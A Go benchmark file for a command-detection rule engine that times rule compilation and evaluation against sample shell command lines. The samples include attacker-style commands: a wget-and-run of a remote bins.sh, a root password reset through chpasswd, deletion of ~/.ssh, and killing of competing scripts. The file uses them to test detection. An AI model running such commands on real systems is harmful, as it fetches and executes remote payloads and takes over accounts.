package engine

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"ttpctl/internal/event"
)

// generatedRules returns n command rules in the style of hand-written ones:
// mostly a strong literal or two with some structure around, on command_text
// and the derived fields. Deterministic; ids from R5000 on.
func generatedRules(n int) []Source {
	rng := rand.New(rand.NewPCG(1, 2))
	word := func() string {
		b := make([]byte, 5+rng.IntN(6))
		for i := range b {
			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789_-"[rng.IntN(38)]
		}
		return strings.Trim(string(b), "-_") + "x"
	}
	shapes := []func() string{
		func() string { return `{pattern: '\b` + word() + `\b'}` },
		func() string { return `{pattern: '(?i)\b(?:` + word() + `|` + word() + `)\s+-[a-z]'}` },
		func() string { return `{field: simple_command, pattern: '^` + word() + `(?:\s|$)'}` },
		func() string { return `{field: command_name, in_set: [` + word() + `, ` + word() + `]}` },
		func() string { return `{contains: [` + word() + `, ` + word() + `]}` },
		func() string { return `{pattern: '/(?:tmp|var)/` + word() + `\.(?:sh|py)[0-9]{1,3}'}` },
		func() string {
			return `{all_of: [{contains: ` + word() + `}, {pattern: '` + word() + `.*` + word() + `'}]}`
		},
	}
	srcs := make([]Source, n)
	for i := range srcs {
		id := fmt.Sprintf("R%05d", 50000+i)
		srcs[i] = Source{Name: id + ".yaml", Data: []byte(fmt.Sprintf(
			"rule_id: %s\nrule_version: 1\nname: g_%d\ndescription: generated\napplies_to: [command]\nmatch: %s\nemits:\n  - {tactic: TA0007, technique_id: T1082, confidence: 0.7}\n",
			id, i, shapes[i%len(shapes)]()))}
	}
	return srcs
}

// benchCommands are command lines of the sort that sensors see, 70 bytes on
// average.
var benchCommands = []string{
	"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
	"cd ~ && rm -rf .ssh && mkdir .ssh && chmod -R go= ~/.ssh && cd ~",
	"uname -s -v -n -r -m",
	"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
	"cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
	"ls -lh $(which ls)",
	"/bin/busybox cat /proc/self/exe || cat /proc/self/exe",
	"echo \"root:Zx9\"|chpasswd|bash",
	"rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh",
	"whoami",
}

func BenchmarkEvaluate(b *testing.B) {
	for _, n := range []int{25, 1000, 10000} {
		snap := NewSnapshot(mustCompile(b, generatedRules(n)), nil, testNow)
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			sc := NewScratch()
			var bytes int
			evs := make([]*event.Event, len(benchCommands))
			for i, c := range benchCommands {
				evs[i] = commandEvent(c)
				bytes += len(c)
			}
			var dst []event.Tag
			b.ReportAllocs()
			b.SetBytes(int64(bytes / len(evs)))
			i := 0
			for b.Loop() {
				dst = snap.Evaluate(dst[:0], evs[i%len(evs)], testNow, sc)
				i++
			}
		})
	}
}

func BenchmarkScan25(b *testing.B) {
	snap := NewSnapshot(mustCompile(b, generatedRules(25)), nil, testNow)
	sc := NewScratch()
	ev := commandEvent(benchCommands[0])
	b.ReportAllocs()
	for b.Loop() {
		snap.Scan(nil, ev, testNow, sc)
	}
}

func BenchmarkCompile1000(b *testing.B) {
	srcs := generatedRules(1000)
	b.ReportAllocs()
	for b.Loop() {
		withIndex(mustCompile(b, srcs))
	}
}

// generatedLineRules returns n rules that speak of commands and effects, in
// the shapes that packs have: each names a program, a path or a host of its
// own, beside what many lines show.
func generatedLineRules(n int) []Source {
	rng := rand.New(rand.NewPCG(3, 4))
	word := func() string {
		b := make([]byte, 6+rng.IntN(6))
		for i := range b {
			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789"[rng.IntN(36)]
		}
		return "w" + string(b)
	}
	shapes := []func() string{
		func() string { return `{effect: {reads: /etc/` + word() + `}}` },
		func() string { return `{effect: {writes: {path: /etc/` + word() + `/**, how: [create, append]}}}` },
		func() string { return `{command: {program: ` + word() + `!, option: [-a, --all]}}` },
		func() string { return `{command: {program: cat, operand: '*.` + word() + `'}}` },
		func() string { return `{effect: {fetches: {host: ` + word() + `.test, to: file}}}` },
		func() string { return `{command: {program: wget, argument: {pattern: '(?i)` + word() + `[0-9]'}}}` },
		func() string {
			return `{command: {program: '@fetcher', effect: {fetches: {host: ` + word() + `.test}}, output_to: {program: sh!}}}`
		},
		func() string { return `{effect: {removes: ['~/.` + word() + `', /var/` + word() + `]}}` },
		func() string {
			return `{all_of: [{effect: {runs: /tmp/` + word() + `}}, {none_of: [{command: {program: cat}}]}]}`
		},
	}
	srcs := generatedRules(n)
	for i := range srcs {
		old, _, _ := strings.Cut(string(srcs[i].Data), "match: ")
		_, rest, _ := strings.Cut(string(srcs[i].Data), "\nemits:")
		srcs[i].Data = []byte(old + "match: " + shapes[i%len(shapes)]() + "\nemits:" + rest)
	}
	return srcs
}

// BenchmarkEvaluateLines is about rules that speak of commands and effects.
func BenchmarkEvaluateLines(b *testing.B) {
	for _, n := range []int{25, 1000, 10000} {
		snap := NewSnapshot(mustCompile(b, generatedLineRules(n)), nil, testNow)
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			sc := NewScratch()
			evs := make([]*event.Event, len(benchCommands))
			for i, c := range benchCommands {
				evs[i] = commandEvent(c)
			}
			var dst []event.Tag
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				dst = snap.Evaluate(dst[:0], evs[i%len(evs)], testNow, sc)
				i++
			}
		})
	}
}

// withIndex returns rs with the index of command events made, as a first event has it.
func withIndex(rs *Ruleset) *Ruleset {
	rs.makeIndex()
	rs.indexOf(event.KindCommand)
	return rs
}
